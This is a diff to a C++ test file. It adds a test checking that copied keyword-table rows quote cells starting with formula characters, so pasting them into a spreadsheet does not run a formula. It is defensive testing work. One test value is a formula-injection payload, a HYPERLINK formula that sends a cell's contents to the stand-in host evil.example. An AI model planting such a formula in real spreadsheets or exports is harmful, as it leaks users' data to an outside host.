@@ -62,6 +62,16 @@ TEST(CopyTexts, KeywordsOnePerLineRowsTabSeparatedWithTheHeader) {
                                        "2\ttab here\tline  break\t\t\t\n");
 }
 
+// Pasted into a spreadsheet, a formula would run: the quote of Save keeps it text.
+TEST(CopyTexts, RowsQuoteFormulasButNotPlainNumbers) {
+    KeywordTable table;
+    table.Append({"=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")", "@SUM(A1)", "-golf", "\t=1+1", "-12"});
+    table.Append({"+1,234.5", "golf", "", "", ""});
+    EXPECT_EQ(RowsText(table, {0, 1}).substr(RowsText(table, {}).size()),
+              "1\t'=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")\t'@SUM(A1)\t'-golf\t' =1+1\t-12\n"
+              "2\t+1,234.5\tgolf\t\t\t\n");
+}
+
 TEST(SaveShown, WritesOnlyTheShownRowsAndTheSameBytesAsSaveResultsForAll) {
     QTemporaryDir folder;
     test::ScriptedUi ui;
